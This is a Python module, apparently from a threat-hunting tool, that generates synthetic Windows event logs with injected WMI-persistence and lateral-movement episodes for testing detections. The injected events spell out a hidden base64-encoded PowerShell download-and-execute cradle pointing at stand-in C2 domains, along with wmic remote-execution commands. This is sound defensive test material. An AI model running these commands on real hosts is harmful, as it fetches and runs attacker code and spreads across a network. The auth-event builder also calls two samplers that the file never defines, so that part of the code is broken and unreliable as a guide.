@@ -0,0 +1,716 @@
+"""
+Seeded synthetic Windows telemetry used by the simulated connectors and by load tests.
+
+Events come from four families that mirror the logs hunts query:
+
+    process   Security 4688 process creation
+    auth      Security 4624 / 4625 / 4648 logons
+    wmi       WMI-Activity 5857 / 5858 / 5860 / 5861
+    dns       Sysmon 22 DNS queries
+
+They are drawn from fixed host and user populations, where a few noisy hosts
+and users produce most of the events, and attack scenarios (WMI event
+subscription persistence, lateral movement over WMI and SMB) are injected at a
+configurable rate as short episodes of correlated events. The same seed, query
+and count always give the same events.
+
+Rows are built from precomputed tables with batched random choices, so no row
+is copied or formatted field by field; a single core produces several hundred
+thousand Splunk-shaped events per second (see benchmarks/bench_telemetry.py).
+"""
+import base64
+import calendar
+import gc
+import random
+import re
+import time
+import zlib
+from array import array
+from contextlib import contextmanager
+from datetime import datetime
+from typing import Any, Callable, Dict, Iterator, List, Optional, Sequence, Tuple
+
+from config.settings import settings
+
+FAMILIES = ("process", "auth", "wmi", "dns")
+SCENARIOS = ("wmi_persistence", "lateral_movement")
+
+# Relative share of each family in background traffic
+_FAMILY_WEIGHTS = {"process": 50, "auth": 25, "wmi": 5, "dns": 20}
+
+_SOURCETYPES = {
+    "process": "WinEventLog:Security",
+    "auth": "WinEventLog:Security",
+    "wmi": "WinEventLog:Microsoft-Windows-WMI-Activity/Operational",
+    "dns": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
+}
+
+_SYSTEM32 = "C:\\Windows\\System32\\"
+_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
+
+# (weight, process path, parent path, command line, runs as SYSTEM)
+_PROCESSES: Tuple[Tuple[int, str, str, str, bool], ...] = (
+    (30, _SYSTEM32 + "svchost.exe", _SYSTEM32 + "services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", True),
+    (12, _SYSTEM32 + "conhost.exe", _SYSTEM32 + "cmd.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", False),
+    (12, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer", False),
+    (8, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", False),
+    (6, _SYSTEM32 + "taskhostw.exe", _SYSTEM32 + "svchost.exe", "taskhostw.exe KEYROAMING", False),
+    (6, _SYSTEM32 + "wbem\\WmiPrvSE.exe", _SYSTEM32 + "svchost.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", True),
+    (5, _SYSTEM32 + "cmd.exe", "C:\\Windows\\explorer.exe", "\"C:\\Windows\\system32\\cmd.exe\"", False),
+    (4, _POWERSHELL, "C:\\Windows\\explorer.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", False),
+    (4, _SYSTEM32 + "SearchProtocolHost.exe", _SYSTEM32 + "SearchIndexer.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1", True),
+    (3, _SYSTEM32 + "backgroundTaskHost.exe", _SYSTEM32 + "svchost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", False),
+    (2, _SYSTEM32 + "wbem\\WMIC.exe", _SYSTEM32 + "cmd.exe", "wmic logicaldisk get caption,freespace", False),
+    (2, _SYSTEM32 + "sc.exe", _SYSTEM32 + "cmd.exe", "sc query wuauserv", False),
+    (2, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "C:\\Windows\\explorer.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\"", False),
+    (1, "C:\\Windows\\CCM\\CcmExec.exe", _SYSTEM32 + "services.exe", "C:\\Windows\\CCM\\CcmExec.exe", True),
+    (1, _SYSTEM32 + "rundll32.exe", _SYSTEM32 + "svchost.exe", "rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6}", False)
+)
+
+# (weight, event code, namespace, operation)
+_WMI_OPERATIONS: Tuple[Tuple[int, int, str, str], ...] = (
+    (60, 5857, "root\\cimv2", "cimwin32 provider started with result code 0x0. HostProcess = wmiprvse.exe; ProviderPath = %systemroot%\\system32\\wbem\\cimwin32.dll"),
+    (15, 5857, "root\\cimv2", "WMIPerfClass provider started with result code 0x0. HostProcess = wmiprvse.exe; ProviderPath = %systemroot%\\system32\\wbem\\WmiPerfClass.dll"),
+    (12, 5858, "root\\cimv2", "Id = {00000000-0000-0000-0000-000000000000}; Operation = Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_Service; ResultCode = 0x80041032"),
+    (10, 5860, "root\\cimv2", "Namespace = root\\cimv2; NotificationQuery = SELECT * FROM Win32_ProcessStartTrace; UserName = NT AUTHORITY\\SYSTEM; PossibleCause = Temporary"),
+    (3, 5861, "//./root/subscription", "Namespace = //./root/subscription; Eventfilter = SCM Event Log Filter; Consumer = NTEventLogEventConsumer=\"SCM Event Log Consumer\"; PossibleCause = Binding EventFilter: instance of __EventFilter { Name = \"SCM Event Log Filter\"; Query = \"select * from MSFT_SCMEventLogEvent\"; };")
+)
+
+# (weight, process path, domain)
+_DNS_QUERIES: Tuple[Tuple[int, str, str], ...] = (
+    (20, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "www.google.com"),
+    (15, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "outlook.office365.com"),
+    (12, _SYSTEM32 + "svchost.exe", "settings-win.data.microsoft.com"),
+    (10, _SYSTEM32 + "svchost.exe", "ctldl.windowsupdate.com"),
+    (8, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "github.com"),
+    (8, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "login.microsoftonline.com"),
+    (6, _SYSTEM32 + "svchost.exe", "time.windows.com"),
+    (5, "C:\\Windows\\CCM\\CcmExec.exe", "sccm.corp.local"),
+    (4, _SYSTEM32 + "svchost.exe", "ocsp.digicert.com")
+)
+
+# Background logons: (weight, logon type); type 2 is interactive on the user's own workstation
+_LOGON_TYPES: Tuple[Tuple[int, int], ...] = ((40, 3), (30, 2), (15, 5), (10, 10), (5, 7))
+
+_FIRST_NAMES = (
+    "james", "mary", "john", "patricia", "robert", "jennifer", "michael", "linda", "william", "elizabeth",
+    "david", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah", "charles", "karen",
+    "daniel", "nancy", "matthew", "lisa", "anthony", "betty", "mark", "sandra", "paul", "ashley"
+)
+_LAST_NAMES = (
+    "smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez",
+    "hernandez", "lopez", "gonzalez", "wilson", "anderson", "taylor", "moore", "jackson", "martin", "lee",
+    "thompson", "white", "harris", "clark", "lewis", "walker", "hall", "young", "allen", "king"
+)
+_SERVER_ROLES = ("FILE", "SQL", "WEB", "APP", "EXCH", "PRINT", "BKP")
+_SERVICE_ACCOUNTS = ("svc_sql", "svc_backup", "svc_web", "svc_sccm", "svc_monitor")
+_C2_DOMAINS = ("cdn-update-check.net", "telemetry-msft.com", "office365-sync.org", "akamai-edge-cache.net")
+
+# Query terms that select event families when a query names no event codes
+_FAMILY_TERMS = {
+    "process": ("4688", "process", "commandline", "command_line", "powershell", "cmd.exe", "wmic", "parent"),
+    "auth": ("4624", "4625", "4648", "logon", "login", "auth", "lateral", "ntlm", "kerberos", "src_host", "dst_host"),
+    "wmi": ("wmi", "5857", "5858", "5860", "5861", "eventconsumer", "eventfilter", "subscription"),
+    "dns": ("dns", "query_name", "queryname", "sysmon")
+}
+_EVENT_CODES = {
+    4688: "process", 4624: "auth", 4625: "auth", 4648: "auth",
+    5857: "wmi", 5858: "wmi", 5860: "wmi", 5861: "wmi", 22: "dns"
+}
+_EVENT_CODE_PATTERN = re.compile(r"(?:eventcode|event_id|event\.code|event_code|eventid)\W{0,3}(\d+)|\b(4688|4624|4625|4648|5857|5858|5860|5861)\b")
+_RELATIVE_TIME = re.compile(r"^-(\d+)([smhdw])$")
+_UNIT_SECONDS = {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 604800}
+
+# "HH:MM:SS" for every second of a day, built on first use
+_CLOCK: List[str] = []
+
+
+def _clock() -> List[str]:
+    if not _CLOCK:
+        _CLOCK.extend(f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60))
+    return _CLOCK
+
+
+class _Sampler:
+    """
+    Weighted choice through a lookup table indexed by random bytes, one byte per
+    pick for short lists and two for populations. Much cheaper than
+    random.choices; weights are rounded to 1/256 or 1/65536.
+    """
+
+    def __init__(self, items: Sequence[Any], weights: Optional[Sequence[float]] = None):
+        weights = list(weights) if weights is not None else [1.0] * len(items)
+        self.width = 1 if len(items) <= 32 else 2
+        size = 256 ** self.width
+        total = sum(weights)
+        table: List[Any] = []
+        cumulative = 0.0
+        for item, weight in zip(items, weights):
+            cumulative += weight
+            table.extend([item] * (round(cumulative / total * size) - len(table)))
+        self.table = table
+
+    def sample(self, rng: random.Random, count: int) -> List[Any]:
+        data = rng.randbytes(count * self.width)
+        return list(map(self.table.__getitem__, data if self.width == 1 else array("H", data)))
+
+
+def _timestamps(rng: random.Random, count: int, start: int, span_seconds: int) -> List[str]:
+    """
+    count sorted timestamps spread evenly over the window, formatted once per second
+    """
+    clock = _clock()
+    days: Dict[int, str] = {}
+
+    def format_second(second: int) -> str:
+        day, offset = divmod(second, 86400)
+        prefix = days.get(day)
+        if prefix is None:
+            prefix = days[day] = time.strftime("%Y-%m-%dT", time.gmtime(day * 86400))
+        return prefix + clock[offset] + "Z"
+
+    if count < span_seconds:
+        # Event i falls at a random point of the i-th equal slice of the window
+        step = span_seconds / count
+        random_ = rng.random
+        return [format_second(start + int((i + random_()) * step)) for i in range(count)]
+    # More events than seconds: each second gets its share of the events, with the
+    # boundaries between seconds jittered, and repeats one formatted string
+    per_second = count / span_seconds
+    timestamps: List[str] = []
+    lower = 0
+    for second in range(span_seconds - 1):
+        upper = max(lower, min(count, int((second + 1) * per_second + rng.random())))
+        timestamps.extend([format_second(start + second)] * (upper - lower))
+        lower = upper
+    timestamps.extend([format_second(start + span_seconds - 1)] * (count - lower))
+    return timestamps
+
+
+@contextmanager
+def _gc_paused() -> Iterator[None]:
+    """
+    Suspend cyclic garbage collection while a batch is built: events hold no
+    reference cycles, and the collections their allocations would trigger keep
+    rescanning every event built so far
+    """
+    enabled = gc.isenabled()
+    gc.disable()
+    try:
+        yield
+    finally:
+        if enabled:
+            gc.enable()
+
+
+def _parse_time(value: str) -> int:
+    return calendar.timegm(datetime.strptime(value.replace("Z", ""), "%Y-%m-%dT%H:%M:%S").timetuple())
+
+
+def families_for_query(query_string: str) -> Tuple[str, ...]:
+    """
+    Event families a query is about: those of the event codes it names, else those
+    whose field names or keywords it mentions, else every family
+    """
+    lowered = query_string.lower()
+    families = set()
+    for match in _EVENT_CODE_PATTERN.finditer(lowered):
+        family = _EVENT_CODES.get(int(match.group(1) or match.group(2)))
+        if family:
+            families.add(family)
+    if not families:
+        families = {family for family, terms in _FAMILY_TERMS.items() if any(term in lowered for term in terms)}
+    return tuple(f for f in FAMILIES if f in families) or FAMILIES
+
+
+def scenarios_for_query(query_string: str) -> Tuple[str, ...]:
+    """
+    Attack scenarios to inject for a query: the ones it names, else all of them
+    """
+    lowered = query_string.lower().replace(" ", "_")
+    named = tuple(s for s in SCENARIOS if s in lowered)
+    return named or SCENARIOS
+
+
+class TelemetryGenerator:
+    """
+    Deterministic generator of Windows host telemetry over a fixed population.
+
+    Events are returned in time order, spread over span_seconds starting at
+    start. attack_rate is the share of events that belong to injected attack
+    episodes; with label_scenarios each of them carries the scenario name.
+    """
+
+    def __init__(self, hosts: int = 200, users: int = 500, seed: int = 1337, attack_rate: float = 0.01,
+                 start: str = "2023-06-15T00:00:00Z", span_seconds: int = 86400, domain: str = "CORP",
+                 label_scenarios: bool = False):
+        if hosts < 3:
+            raise ValueError("At least 3 hosts are needed (a domain controller, a server and a workstation)")
+        if users < 1:
+            raise ValueError("At least one user is needed")
+        self.seed = seed
+        self.attack_rate = attack_rate
+        self.start = _parse_time(start)
+        self.span_seconds = span_seconds
+        self.domain = domain
+        self.label_scenarios = label_scenarios
+
+        rng = random.Random(seed)
+        suffix = f".{domain.lower()}.local"
+        dcs = max(1, hosts // 100)
+        servers = max(1, hosts // 10)
+        workstations = hosts - dcs - servers
+        self.domain_controllers = [f"DC{i + 1:02d}" for i in range(dcs)]
+        self.servers = [
+            f"SRV-{_SERVER_ROLES[i % len(_SERVER_ROLES)]}{i // len(_SERVER_ROLES) + 1:02d}" for i in range(servers)
+        ]
+        self.workstations = [f"WKS-{i + 1:04d}" for i in range(workstations)]
+        self.hosts = self.domain_controllers + self.servers + self.workstations
+        self.host_ips = {}
+        for subnet, names in ((10, self.domain_controllers), (20, self.servers), (100, self.workstations)):
+            for i, name in enumerate(names):
+                self.host_ips[name] = f"10.{subnet + i // 65025}.{i // 255 % 255}.{i % 255 + 1}"
+        self.fqdns = {name: name + suffix for name in self.hosts}
+
+        names = [
+            f"{_FIRST_NAMES[i % 30]}.{_LAST_NAMES[i // 30 % 30]}" + (str(i // 900 + 1) if i >= 900 else "")
+            for i in range(users)
+        ]
+        people = [f"{domain}\\{name}" for name in names]
+        admins = [f"{domain}\\adm_{name}" for name in names[:max(1, users // 50)]]
+        self.users = people + admins + [f"{domain}\\{name}" for name in _SERVICE_ACCOUNTS]
+        self.admins = admins
+        # Each person works at one workstation; admins log on from their own one
+        self.home = {user: self.workstations[i % len(self.workstations)] for i, user in enumerate(people)}
+        for i, admin in enumerate(admins):
+            self.home[admin] = self.workstations[i % len(self.workstations)]
+
+        # A few hosts and users are much noisier than the rest (Zipf-like activity)
+        host_order = self.hosts[:]
+        rng.shuffle(host_order)
+        self._host_sampler = _Sampler(host_order, [1 / (rank + 1) ** 0.8 for rank in range(len(host_order))])
+        user_order = people[:]
+        rng.shuffle(user_order)
+        self._user_sampler = _Sampler(user_order, [1 / (rank + 1) ** 0.8 for rank in range(len(user_order))])
+        self._logon_targets = self.servers + self.domain_controllers
+        self._target_sampler = _Sampler(self._logon_targets)
+
+        self._family_samplers: Dict[Tuple[str, ...], _Sampler] = {}
+        self._builders: Dict[str, Callable[[random.Random, int], List[Dict[str, Any]]]] = {
+            "process": self._process_events,
+            "auth": self._auth_events,
+            "wmi": self._wmi_events,
+            "dns": self._dns_events
+        }
+
+    def events(self, count: int, shape: str = "splunk", families: Sequence[str] = FAMILIES,
+               scenarios: Sequence[str] = SCENARIOS, seed: Optional[int] = None,
+               start: Optional[int] = None, span_seconds: Optional[int] = None) -> List[Dict[str, Any]]:
+        """
+        Generate count events of the given families in "splunk" (flat) or "elastic"
+        (hits with a nested _source) shape. seed defaults to the generator's seed,
+        start (epoch seconds) and span_seconds to its time window.
+        """
+        if shape not in ("splunk", "elastic"):
+            raise ValueError(f"Unknown telemetry shape: {shape}")
+        families = tuple(f for f in FAMILIES if f in families)
+        if count <= 0 or not families:
+            return []
+        rng = random.Random(self.seed if seed is None else seed)
+        start = self.start if start is None else start
+        span_seconds = self.span_seconds if span_seconds is None else span_seconds
+
+        sampler = self._family_samplers.get(families)
+        if sampler is None:
+            sampler = self._family_samplers[families] = _Sampler(families, [_FAMILY_WEIGHTS[f] for f in families])
+        with _gc_paused():
+            picks = sampler.sample(rng, count)
+            next_event = {
+                family: iter(self._builders[family](rng, picks.count(family))).__next__ for family in families
+            }
+            rows = [next_event[family]() for family in picks]
+            self._inject(rng, rows, families, scenarios)
+
+            for row, timestamp in zip(rows, _timestamps(rng, count, start, span_seconds)):
+                row["timestamp"] = timestamp
+
+            if shape == "elastic":
+                return self._to_elastic(rows, rng)
+            return rows
+
+    def stream(self, total: int, batch_size: int = 100_000, shape: str = "splunk",
+               families: Sequence[str] = FAMILIES, scenarios: Sequence[str] = SCENARIOS,
+               worker: int = 0, workers: int = 1) -> Iterator[List[Dict[str, Any]]]:
+        """
+        Yield total events in batches covering consecutive time windows, for load
+        tests that should not hold every event in memory. Each batch is seeded by its
+        number, so workers processes can split the batches (every workers-th one,
+        starting at worker) and together produce the same events as one process.
+        """
+        batches = -(-total // batch_size)
+        for number in range(worker, batches, workers):
+            first = number * batch_size
+            count = min(batch_size, total - first)
+            yield self.events(
+                count, shape, families, scenarios,
+                seed=self.seed * 1_000_003 + number,
+                start=self.start + self.span_seconds * first // total,
+                span_seconds=max(1, self.span_seconds * count // total)
+            )
+
+    def for_query(self, query_string: str, time_range: Optional[Dict[str, str]], count: int,
+                  shape: str = "splunk") -> List[Dict[str, Any]]:
+        """
+        Events a simulated data source returns for a query: the families and scenarios
+        the query is about, over the query's relative time range (e.g. "-7d"), seeded
+        by the query so that running it again returns the same events
+        """
+        span = self.span_seconds
+        match = _RELATIVE_TIME.match(str((time_range or {}).get("start", "")).strip())
+        if match:
+            span = int(match.group(1)) * _UNIT_SECONDS[match.group(2)]
+        seed = self.seed ^ zlib.crc32(f"{shape}|{span}|{query_string}".encode("utf-8"))
+        return self.events(
+            count, shape, families_for_query(query_string), scenarios_for_query(query_string),
+            seed=seed, start=self.start + self.span_seconds - span, span_seconds=span
+        )
+
+    # Background traffic
+
+    def _hosts(self, rng: random.Random, count: int) -> List[str]:
+        return self._host_sampler.sample(rng, count)
+
+    def _users(self, rng: random.Random, count: int) -> List[str]:
+        return self._user_sampler.sample(rng, count)
+
+    def _process_events(self, rng: random.Random, count: int) -> List[Dict[str, Any]]:
+        templates = _PROCESS_SAMPLER.sample(rng, count)
+        sourcetype = _SOURCETYPES["process"]
+        return [
+            {
+                "timestamp": None,
+                "host": host,
+                "sourcetype": sourcetype,
+                "EventCode": 4688,
+                "user": "NT AUTHORITY\\SYSTEM" if template[4] else user,
+                "process": template[5],
+                "process_path": template[1],
+                "parent_process": template[6],
+                "parent_process_path": template[2],
+                "command_line": template[3]
+            }
+            for host, user, template in zip(self._hosts(rng, count), self._users(rng, count), templates)
+        ]
+
+    def _auth_events(self, rng: random.Random, count: int) -> List[Dict[str, Any]]:
+        users = self._users(rng, count)
+        logon_types = _LOGON_TYPE_SAMPLER.sample(rng, count)
+        targets = self._target_sampler.sample(rng, count)
+        outcomes = _OUTCOME_SAMPLER.sample(rng, count)
+        kerberos = _KERBEROS_SAMPLER.sample(rng, count)
+        home = self.home
+        ips = self.host_ips
+        sourcetype = _SOURCETYPES["auth"]
+        rows = []
+        for user, logon_type, target, code, is_kerberos in zip(users, logon_types, targets, outcomes, kerberos):
+            src = home[user]
+            dst = src if logon_type in (2, 7) else target
+            rows.append({
+                "timestamp": None,
+                "host": dst,
+                "sourcetype": sourcetype,
+                "EventCode": code,
+                "user": user,
+                "src_host": src,
+                "src_ip": ips[src],
+                "dst_host": dst,
+                "logon_type": logon_type,
+                "auth_type": "Kerberos" if is_kerberos or logon_type == 2 else "NTLM",
+                "status": "failure" if code == 4625 else "success"
+            })
+        return rows
+
+    def _wmi_events(self, rng: random.Random, count: int) -> List[Dict[str, Any]]:
+        templates = _WMI_SAMPLER.sample(rng, count)
+        sourcetype = _SOURCETYPES["wmi"]
+        return [
+            {
+                "timestamp": None,
+                "host": host,
+                "sourcetype": sourcetype,
+                "EventCode": template[1],
+                "user": "NT AUTHORITY\\SYSTEM",
+                "namespace": template[2],
+                "operation": template[3]
+            }
+            for host, template in zip(self._hosts(rng, count), templates)
+        ]
+
+    def _dns_events(self, rng: random.Random, count: int) -> List[Dict[str, Any]]:
+        templates = _DNS_SAMPLER.sample(rng, count)
+        sourcetype = _SOURCETYPES["dns"]
+        return [
+            {
+                "timestamp": None,
+                "host": host,
+                "sourcetype": sourcetype,
+                "EventCode": 22,
+                "user": user,
+                "process": template[3],
+                "process_path": template[1],
+                "query_name": template[2]
+            }
+            for host, user, template in zip(self._hosts(rng, count), self._users(rng, count), templates)
+        ]
+
+    # Attack episodes
+
+    def _inject(self, rng: random.Random, rows: List[Dict[str, Any]], families: Tuple[str, ...],
+                scenarios: Sequence[str]) -> None:
+        """
+        Overwrite runs of consecutive background events with attack episodes, so each
+        episode's events are close together in time
+        """
+        scenarios = [s for s in SCENARIOS if s in scenarios]
+        if not scenarios or self.attack_rate <= 0:
+            return
+        # Episodes average about six events
+        expected = len(rows) * self.attack_rate / 6
+        episodes = int(expected) + (rng.random() < expected - int(expected))
+        if not episodes:
+            return
+        # One episode per stretch of the events, at a random place within it
+        stretch = len(rows) // episodes
+        for number in range(episodes):
+            scenario = rng.choice(scenarios)
+            builder = self._wmi_persistence if scenario == "wmi_persistence" else self._lateral_movement
+            episode = [event for family, event in builder(rng) if family in families]
+            position = number * stretch + rng.randrange(max(1, stretch - len(episode)))
+            for event in episode[:len(rows) - position]:
+                if self.label_scenarios:
+                    event["scenario"] = scenario
+                rows[position] = event
+                position += 1
+
+    def _wmi_persistence(self, rng: random.Random) -> List[Tuple[str, Dict[str, Any]]]:
+        host = rng.choice(self.workstations + self.servers)
+        admin = rng.choice(self.admins)
+        name = rng.choice(("SysUpdate", "WindowsTelemetry", "OfficeSync", "BVTFilter2"))
+        c2 = rng.choice(_C2_DOMAINS)
+        script = f"IEX (New-Object Net.WebClient).DownloadString('https://{c2}/{rng.getrandbits(32):08x}')"
+        encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
+        payload = f"powershell.exe -NoP -W Hidden -Enc {encoded}"
+        query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
+        return [
+            ("process", self._process(host, admin, _POWERSHELL, _SYSTEM32 + "cmd.exe",
+                                      f"powershell.exe -NoP -C \"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name='{name}';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=\\\"{query}\\\"}}\"")),
+            ("wmi", {
+                "timestamp": None,
+                "host": host,
+                "sourcetype": _SOURCETYPES["wmi"],
+                "EventCode": 5861,
+                "user": admin,
+                "namespace": "//./root/subscription",
+                "operation": (
+                    f"Namespace = //./root/subscription; Eventfilter = {name}; "
+                    f"Consumer = CommandLineEventConsumer=\"{name}\"; PossibleCause = Binding EventFilter: "
+                    f"instance of __EventFilter {{ Name = \"{name}\"; Query = \"{query}\"; }}; "
+                    f"Perm. Consumer: instance of CommandLineEventConsumer {{ CommandLineTemplate = \"{payload}\"; Name = \"{name}\"; }};"
+                )
+            }),
+            ("process", self._process(host, "NT AUTHORITY\\SYSTEM", _POWERSHELL, _SYSTEM32 + "wbem\\WmiPrvSE.exe", payload)),
+            ("dns", {
+                "timestamp": None,
+                "host": host,
+                "sourcetype": _SOURCETYPES["dns"],
+                "EventCode": 22,
+                "user": "NT AUTHORITY\\SYSTEM",
+                "process": "powershell.exe",
+                "process_path": _POWERSHELL,
+                "query_name": c2
+            }),
+            ("process", self._process(host, "NT AUTHORITY\\SYSTEM", _SYSTEM32 + "whoami.exe", _POWERSHELL, "\"C:\\Windows\\system32\\whoami.exe\" /all"))
+        ]
+
+    def _lateral_movement(self, rng: random.Random) -> List[Tuple[str, Dict[str, Any]]]:
+        admin = rng.choice(self.admins)
+        source = self.home[admin]
+        targets = rng.sample(self._logon_targets, min(3, len(self._logon_targets)))
+        output = f"__{rng.randrange(1_600_000_000, 1_700_000_000)}.{rng.random():.7f}"[:22]
+        events: List[Tuple[str, Dict[str, Any]]] = [
+            ("auth", self._logon(admin, source, targets[0], 4625, "NTLM")),
+            ("auth", self._logon(admin, source, targets[0], 4648, "NTLM"))
+        ]
+        for target in targets:
+            events.append(("auth", self._logon(admin, source, target, 4624, "NTLM")))
+        events.append(("process", self._process(
+            source, admin, _SYSTEM32 + "wbem\\WMIC.exe", _SYSTEM32 + "cmd.exe",
+            f"wmic /node:{targets[0]} process call create \"cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\{output} 2>&1\""
+        )))
+        events.append(("process", self._process(
+            targets[0], admin, _SYSTEM32 + "cmd.exe", _SYSTEM32 + "wbem\\WmiPrvSE.exe",
+            f"cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\{output} 2>&1"
+        )))
+        if len(targets) > 1:
+            events.append(("process", self._process(
+                targets[1], "NT AUTHORITY\\SYSTEM", "C:\\Windows\\PSEXESVC.exe", _SYSTEM32 + "services.exe",
+                "C:\\Windows\\PSEXESVC.exe"
+            )))
+        return events
+
+    def _process(self, host: str, user: str, path: str, parent_path: str, command_line: str) -> Dict[str, Any]:
+        return {
+            "timestamp": None,
+            "host": host,
+            "sourcetype": _SOURCETYPES["process"],
+            "EventCode": 4688,
+            "user": user,
+            "process": path.rsplit("\\", 1)[1],
+            "process_path": path,
+            "parent_process": parent_path.rsplit("\\", 1)[1],
+            "parent_process_path": parent_path,
+            "command_line": command_line
+        }
+
+    def _logon(self, user: str, source: str, target: str, code: int, auth_type: str) -> Dict[str, Any]:
+        return {
+            "timestamp": None,
+            "host": target,
+            "sourcetype": _SOURCETYPES["auth"],
+            "EventCode": code,
+            "user": user,
+            "src_host": source,
+            "src_ip": self.host_ips[source],
+            "dst_host": target,
+            "logon_type": 3,
+            "auth_type": auth_type,
+            "status": "failure" if code == 4625 else "success"
+        }
+
+    # Elastic shape
+
+    def _to_elastic(self, rows: List[Dict[str, Any]], rng: random.Random) -> List[Dict[str, Any]]:
+        fqdns = self.fqdns
+        id_prefix = f"{rng.getrandbits(32):08x}"
+        indices: Dict[Tuple[str, str], str] = {}
+        hits = []
+        for i, row in enumerate(rows):
+            timestamp = row["timestamp"]
+            family = _EVENT_CODES[row["EventCode"]]
+            source = _ELASTIC_SOURCES[family](row, timestamp[:-1] + ".000Z", fqdns)
+            if "scenario" in row:
+                source["labels"] = {"scenario": row["scenario"]}
+            index = indices.get((family, timestamp[:10]))
+            if index is None:
+                index = indices[(family, timestamp[:10])] = (
+                    ("filebeat-" if family == "dns" else "winlogbeat-") + timestamp[:10].replace("-", ".")
+                )
+            hits.append({"_index": index, "_id": f"{id_prefix}{i:08x}", "_source": source})
+        return hits
+
+
+def _elastic_process(row: Dict[str, Any], timestamp: str, fqdns: Dict[str, str]) -> Dict[str, Any]:
+    return {
+        "@timestamp": timestamp,
+        "host": {"name": row["host"]},
+        "event": {"code": 4688, "provider": "Microsoft-Windows-Security-Auditing", "action": "created-process"},
+        "user": {"name": row["user"]},
+        "process": {
+            "name": row["process"],
+            "executable": row["process_path"],
+            "command_line": row["command_line"],
+            "parent": {"name": row["parent_process"], "executable": row["parent_process_path"]}
+        },
+        "winlog": {
+            "event_id": 4688,
+            "computer_name": fqdns[row["host"]],
+            "event_data": {
+                "NewProcessName": row["process_path"],
+                "ParentProcessName": row["parent_process_path"],
+                "CommandLine": row["command_line"],
+                "SubjectUserName": row["user"]
+            }
+        }
+    }
+
+
+def _elastic_auth(row: Dict[str, Any], timestamp: str, fqdns: Dict[str, str]) -> Dict[str, Any]:
+    code = row["EventCode"]
+    return {
+        "@timestamp": timestamp,
+        "host": {"name": row["host"]},
+        "event": {
+            "code": code,
+            "provider": "Microsoft-Windows-Security-Auditing",
+            "action": "logon-failed" if code == 4625 else "logged-in",
+            "outcome": row["status"]
+        },
+        "user": {"name": row["user"]},
+        "source": {"ip": row["src_ip"], "domain": row["src_host"]},
+        "winlog": {
+            "event_id": code,
+            "computer_name": fqdns[row["host"]],
+            "logon": {"type": row["logon_type"]},
+            "event_data": {
+                "TargetUserName": row["user"],
+                "WorkstationName": row["src_host"],
+                "IpAddress": row["src_ip"],
+                "AuthenticationPackageName": row["auth_type"]
+            }
+        }
+    }
+
+
+def _elastic_wmi(row: Dict[str, Any], timestamp: str, fqdns: Dict[str, str]) -> Dict[str, Any]:
+    return {
+        "@timestamp": timestamp,
+        "host": {"name": row["host"]},
+        "event": {"code": row["EventCode"], "provider": "Microsoft-Windows-WMI-Activity", "action": "wmi-activity"},
+        "user": {"name": row["user"]},
+        "winlog": {
+            "event_id": row["EventCode"],
+            "computer_name": fqdns[row["host"]],
+            "event_data": {"Namespace": row["namespace"], "Operation": row["operation"]}
+        }
+    }
+
+
+def _elastic_dns(row: Dict[str, Any], timestamp: str, fqdns: Dict[str, str]) -> Dict[str, Any]:
+    return {
+        "@timestamp": timestamp,
+        "host": {"name": row["host"]},
+        "event": {"code": 22, "provider": "Microsoft-Windows-Sysmon", "action": "dns-query"},
+        "user": {"name": row["user"]},
+        "process": {"name": row["process"], "executable": row["process_path"]},
+        "dns": {"question": {"name": row["query_name"]}}
+    }
+
+
+_ELASTIC_SOURCES = {"process": _elastic_process, "auth": _elastic_auth, "wmi": _elastic_wmi, "dns": _elastic_dns}
+
+# Executable names are split off the paths once, as extra template fields
+_PROCESS_SAMPLER = _Sampler(
+    [t + (t[1].rsplit("\\", 1)[1], t[2].rsplit("\\", 1)[1]) for t in _PROCESSES], [t[0] for t in _PROCESSES]
+)
+_WMI_SAMPLER = _Sampler(_WMI_OPERATIONS, [t[0] for t in _WMI_OPERATIONS])
+_DNS_SAMPLER = _Sampler([t + (t[1].rsplit("\\", 1)[1],) for t in _DNS_QUERIES], [t[0] for t in _DNS_QUERIES])
+_LOGON_TYPE_SAMPLER = _Sampler([t for _, t in _LOGON_TYPES], [w for w, _ in _LOGON_TYPES])
